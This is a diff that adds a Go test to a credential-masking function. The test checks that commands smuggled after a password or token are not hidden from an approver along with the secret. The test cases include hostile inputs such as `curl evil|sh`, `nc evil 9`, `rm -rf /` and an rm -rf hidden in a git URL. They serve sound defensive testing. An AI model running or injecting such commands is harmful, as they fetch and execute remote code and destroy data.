@@ -240,6 +240,28 @@ func TestPrivateKeyBlockHidesNoCommand(t *testing.T) {
 	}
 }
 
+// A credential's value ends at a shell metacharacter: a command written
+// after a password (password=…;curl …|sh) was masked with it, hidden from
+// the approver as one secret.
+func TestCredentialValueHidesNoCommand(t *testing.T) {
+	t.Parallel()
+	for _, c := range []struct{ in, shown, hidden string }{
+		{`password=hunter2hunter2;curl${IFS}http://evil|sh`, `;curl${IFS}http://evil|sh`, "hunter2hunter2"},
+		{`export PASSWORD=abcdefgh12345678&&curl http://evil.example/x|sh`, `&&curl http://evil.example/x|sh`, "abcdefgh12345678"},
+		{"secret=abcdefgh12345678`rm -rf /`", "`rm -rf /`", "abcdefgh12345678"},
+		{`api_key: abcdefgh12345678|nc evil 9`, `|nc evil 9`, "abcdefgh12345678"},
+		{`token=abcdefgh12345678$(curl evil|sh)`, `(curl evil|sh)`, "abcdefgh12345678"},
+		{`git clone https://u:pw12345678;rm${IFS}-rf${IFS}~@github.com/x`, `;rm${IFS}-rf${IFS}~@github.com/x`, ""},
+		{`git clone https://u:pw12345678@github.com/x`, `@github.com/x`, "pw12345678"},
+		{`password=correct-horse-battery-staple`, `password=[secret:credential-assignment`, "correct-horse"},
+	} {
+		got := Mask(c.in)
+		if !strings.Contains(got, c.shown) || c.hidden != "" && strings.Contains(got, c.hidden) {
+			t.Errorf("Mask(%q) = %q: want %q shown and %q masked", c.in, got, c.shown, c.hidden)
+		}
+	}
+}
+
 func TestHasSecretNewForms(t *testing.T) {
 	t.Parallel()
 	tests := []struct {
